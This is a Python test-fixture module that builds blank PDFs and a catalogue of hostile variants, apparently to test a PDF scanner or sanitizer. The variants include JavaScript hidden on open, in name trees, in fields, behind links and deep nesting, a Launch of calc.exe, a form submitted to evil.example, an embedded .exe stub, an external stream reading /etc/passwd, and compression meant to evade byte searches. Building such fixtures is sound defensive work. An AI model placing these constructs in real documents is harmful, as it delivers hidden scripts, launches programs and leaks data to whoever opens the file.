"""PDFs built for the tests: honest ones, and each kind of hostile one."""

from collections.abc import Callable
from io import BytesIO
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

Change = Callable[[Pdf], object]


def pdf(change: Change = lambda pdf: None, *, pages: int = 1, **save: Any) -> bytes:
    """Return a PDF of blank pages after a change."""
    with Pdf.new() as made:
        for _ in range(pages):
            made.add_blank_page()
        change(made)
        out = BytesIO()
        made.save(out, **save)
        return out.getvalue()


def compressed(change: Change) -> bytes:
    """Return the same, with its objects inside compressed object streams, where no byte search finds them."""
    return pdf(
        change,
        object_stream_mode=pikepdf.ObjectStreamMode.generate,
        compress_streams=True,
        recompress_flate=True,
    )


def script_on_open(made: Pdf) -> None:
    made.Root.OpenAction = made.make_indirect(
        Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String("app.alert(1)"))
    )


def script_in_name_tree(made: Pdf) -> None:
    act = made.make_indirect(Dictionary(S=Name.JavaScript, JS=Stream(made, b"app.alert(1)")))
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("run"), act])))


def script_of_page(made: Pdf) -> None:
    made.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))


def script_behind_a_named_type(made: Pdf) -> None:
    """The action's type is itself a reference, so it must be resolved to be seen."""
    kind = made.make_indirect(Name.JavaScript)
    made.Root.OpenAction = Dictionary(S=kind, Next=Dictionary(S=Name.GoTo))


def script_after_a_jump(made: Pdf) -> None:
    """A harmless action first, the harmful one in its chain."""
    made.Root.OpenAction = Dictionary(
        S=Name.GoTo, D=Array([0, Name.Fit]), Next=Array([Dictionary(S=Name.JavaScript, JS=String("1"))])
    )


def script_deep_down(made: Pdf) -> None:
    inside: Any = Dictionary(S=Name.JavaScript, JS=String("1"))
    for _ in range(60):
        inside = Array([Dictionary(Kids=inside)])
    made.Root.PieceInfo = Dictionary(Deep=inside)


def script_in_a_field(made: Pdf) -> None:
    field = Dictionary(
        FT=Name.Tx, T=String("total"), AA=Dictionary(C=Dictionary(S=Name.JavaScript, JS=String("1")))
    )
    made.Root.AcroForm = Dictionary(Fields=Array([made.make_indirect(field)]))


def script_as_link(made: Pdf) -> None:
    act = Dictionary(S=Name.URI, URI=String(" JavaScript:alert(1)"))
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=act)
    made.pages[0].obj.Annots = Array([made.make_indirect(link)])


def _action(**entries: Any) -> Change:
    def change(made: Pdf) -> None:
        made.Root.OpenAction = Dictionary(Type=Name.Action, **entries)

    return change


launch = _action(S=Name.Launch, F=String("calc.exe"))
submit_form = _action(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://evil.example/")))
import_data = _action(S=Name.ImportData, F=String("data.fdf"))
go_to_remote = _action(S=Name.GoToR, F=String("other.pdf"), D=Array([0, Name.Fit]))
go_to_embedded = _action(S=Name.GoToE, T=Dictionary(R=Name.C))
play_rendition = _action(S=Name.Rendition, OP=0)


def embedded_file(made: Pdf) -> None:
    made.attachments["evil.exe"] = pikepdf.AttachedFileSpec(made, b"MZ" + b"\0" * 64, filename="evil.exe")


def file_annotation(made: Pdf) -> None:
    held = Stream(made, b"MZ")
    spec = Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=held))
    note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=spec)
    made.pages[0].obj.Annots = Array([made.make_indirect(note)])


def xfa(made: Pdf) -> None:
    form = Stream(made, b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=made.make_indirect(form))


def _annotation(kind: str) -> Change:
    def change(made: Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Subtype=Name("/" + kind), Rect=Array([0, 0, 9, 9]))
        made.pages[0].obj.Annots = Array([made.make_indirect(note)])

    return change


rich_media = _annotation("RichMedia")
screen = _annotation("Screen")
three_d = _annotation("3D")
movie = _annotation("Movie")


def outside_stream(made: Pdf) -> None:
    """A stream whose data is in another file."""
    stream = Stream(made, b"")
    stream.stream_dict.F = String("/etc/passwd")
    made.Root.Outside = made.make_indirect(stream)


def by_hand(*objects: bytes, root: bytes = b"1 0 R") -> bytes:
    """Return a PDF written by hand: the objects numbered from 1, with a right cross-reference table."""
    out, offsets = bytearray(b"%PDF-1.4\n"), []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, table)
    return bytes(out)


ONE_PAGE = (
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
    b"<< /Length 9 >>\nstream\n0 0 m 9 l\nendstream",
)
